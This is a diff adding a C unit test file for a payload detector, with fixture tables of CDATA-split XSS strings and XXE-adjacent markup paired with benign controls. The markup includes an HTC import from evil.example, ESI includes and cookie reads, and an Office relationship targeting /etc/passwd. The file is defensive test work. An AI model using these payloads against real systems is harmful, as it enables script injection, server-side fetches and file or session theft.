@@ -1,0 +1,143 @@
+/* test_payload_rtt.c - issue 20, red team round of helper t (traversal,
+ * XXE, Shellshock): constructs its fresh tables found missed, one row per
+ * construct, written here from the construct. Every value is judged as a
+ * query parameter value (payload_scan) and as a form body
+ * "a=1&q=<percent-encoded value>" (payload_scan_query): an attack must draw
+ * its own kind in both, a benign value nothing in either. */
+#include <stdarg.h>
+#include <stddef.h>
+#include <setjmp.h>
+#include <stdint.h>
+#include <cmocka.h>
+
+#include <stdio.h>
+#include <string.h>
+
+#include "collector/detect/payload.h"
+
+struct rtcase {
+	const char *in;
+	enum payload_kind want; /* PAYLOAD_NONE: nothing may match */
+};
+
+/* bit set of the kinds found for v in context ctx (0 value, 1 form body) */
+static unsigned rt_kinds(const char *v, int ctx, const char **why)
+{
+	static char body[8192];
+	static const char hex[] = "0123456789ABCDEF";
+	struct payload_match m[PAYLOAD__COUNT];
+	unsigned set = 0;
+	size_t w = 0;
+	int k;
+
+	if (ctx == 0) {
+		k = payload_scan(v, strlen(v), PAYLOAD_WHERE_QUERY, m, PAYLOAD__COUNT);
+	} else {
+		w = (size_t)snprintf(body, sizeof(body), "a=1&q=");
+		for (const unsigned char *p = (const unsigned char *)v; *p && w + 4 < sizeof(body); p++) {
+			if ((*p >= 'a' && *p <= 'z') || (*p >= 'A' && *p <= 'Z') || (*p >= '0' && *p <= '9') ||
+			    *p == '-' || *p == '_' || *p == '.') {
+				body[w++] = (char)*p;
+			} else if (*p == ' ') {
+				body[w++] = '+';
+			} else {
+				body[w++] = '%';
+				body[w++] = hex[*p >> 4];
+				body[w++] = hex[*p & 15];
+			}
+		}
+		k = payload_scan_query(body, w, PAYLOAD_WHERE_BODY, m, PAYLOAD__COUNT);
+	}
+	*why = k ? m[0].why : "";
+	for (int i = 0; i < k; i++)
+		set |= 1u << m[i].kind;
+	return set;
+}
+
+static void rt_run(const char *cls, const struct rtcase *t, size_t n)
+{
+	int bad = 0;
+
+	for (size_t i = 0; i < n; i++)
+		for (int ctx = 0; ctx < 2; ctx++) {
+			const char *why;
+			unsigned set = rt_kinds(t[i].in, ctx, &why);
+			int ok = t[i].want == PAYLOAD_NONE ? set == 0 : (int)((set >> t[i].want) & 1);
+
+			if (!ok) {
+				bad++;
+				fprintf(stderr, "  FAIL %s %s (%s): [%s] %s\n", cls,
+					t[i].want == PAYLOAD_NONE ? "benign flagged" : "attack missed",
+					ctx ? "form" : "value", t[i].in, why);
+			}
+		}
+	assert_int_equal(bad, 0);
+}
+
+#define X PAYLOAD_XXE
+#define T PAYLOAD_TRAVERSAL
+#define N PAYLOAD_NONE
+
+/* CDATA sections that spell markup a filter on the raw document never saw:
+ * a section holding only a delimiter ("<![CDATA[<]]>SCRIPT"), or one that
+ * ends inside an open tag and is continued by the next section
+ * ("<IMG SRC=\"javas]]><![CDATA[cript:"); an XML parser joins them into
+ * the markup. CDATA that carries text, even with '<', is a document's. */
+static void test_xml_cdata_split(void **st)
+{
+	(void)st;
+	static const struct rtcase t[] = {
+		{"<foo><![CDATA[<]]>SCRIPT<![CDATA[>]]>alert('x');<![CDATA[<]]>/SCRIPT<![CDATA[>]]></foo>", X},
+		{"<![CDATA[<]]>img src=x onerror=alert(1)<![CDATA[>]]>", X},
+		{"<r><![CDATA[</]]>title<![CDATA[>]]></r>", X},
+		{"<C><![CDATA[<IMG SRC=\"javas]]><![CDATA[cript:alert('XSS');\">]]></C>", X},
+		{"<![CDATA[<svg onload=al]]><![CDATA[ert(1)>]]>", X},
+		{"<description><![CDATA[<p>Hello <b>world</b></p>]]></description>", N},
+		{"<x><![CDATA[a]]><![CDATA[b]]></x>", N},
+		{"<code><![CDATA[if (a < b && c > d) { return; }]]></code>", N},
+		{"<![CDATA[<br>]]>", N},
+		{"<![CDATA[]]>", N},
+		{"<x><![CDATA[a]]]]><![CDATA[>b]]></x>", N},
+		{"In XML, CDATA sections look like <![CDATA[ ... ]]> and end at the first ]]>.", N},
+	};
+	rt_run("xml-cdata", t, sizeof(t) / sizeof(t[0]));
+}
+
+/* markup a server-side processor acts on that payload lists file beside
+ * XXE: an IE behaviour imported by a processing instruction, an Edge Side
+ * Include fetching a URL or reading a variable, an Office relationship
+ * pointing at a local file, and a DTD's parameter-entity references one
+ * after another as a whole value ("%dtd;%send;") */
+static void test_xml_processed_markup(void **st)
+{
+	(void)st;
+	static const struct rtcase t[] = {
+		{"<HTML xmlns:xss><?import namespace=\"xss\" implementation=\"http://evil.example/xss.htc\"><xss:xss>XSS</xss:xss></HTML>", X},
+		{"<?import namespace=\"t\" implementation=\"#default#time2\">", X},
+		{"<esi:include src=\"http://oob.example/\"/>", X},
+		{"<esi:include src=\"/admin/secret\"/>", X},
+		{"<esi:vars>$(HTTP_COOKIE{'session'})</esi:vars>", X},
+		{"x<esi:inline name=\"/x\" fetchable=\"yes\"/>", X},
+		{"<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject\" Target=\"file:///etc/passwd\" TargetMode=\"External\"/>", X},
+		{"<Relationship Id=\"r\" Type=\"x\" Target=\"\\\\oob.example\\s\\a.dotm\" TargetMode=\"External\"/>", X},
+		{"%dtd;%send;", X},
+		{"%remote; %init; %trick;", X},
+		{"<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\" Target=\"https://example.com/\" TargetMode=\"External\"/>", N},
+		{"<Relationship Id=\"rId2\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/image\" Target=\"media/image1.png\"/>", N},
+		{"<esi>Esi Johnson</esi>", N},
+		{"The ESI spec defines <esi:include src=\"...\"/> for fragment assembly.", N},
+		{"<?import namespace=\"foo\"?>", N},
+		{"%s;%d;", N},
+		{"%PATH%;%JAVA_HOME%\\bin;", N},
+	};
+	rt_run("xml-processed", t, sizeof(t) / sizeof(t[0]));
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(test_xml_cdata_split),
+		cmocka_unit_test(test_xml_processed_markup),
+	};
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
